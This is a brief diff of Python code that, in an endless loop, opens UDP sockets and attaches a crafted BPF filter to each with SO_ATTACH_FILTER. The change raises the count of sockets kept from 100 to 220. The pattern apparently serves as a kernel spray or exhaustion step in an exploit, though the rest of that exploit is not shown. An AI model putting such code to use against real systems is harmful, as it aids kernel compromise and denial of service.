@@ -4,7 +4,7 @@ def work(index):
     program = struct.pack("H6xQ", 2001, ctypes.addressof(code))
     kept = []
     while True:
-        if len(kept) >= 100:
+        if len(kept) >= 220:
             kept.clear()
         kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
         kept[-1].setsockopt(socket.SOL_SOCKET, 26, program)  # SO_ATTACH_FILTER
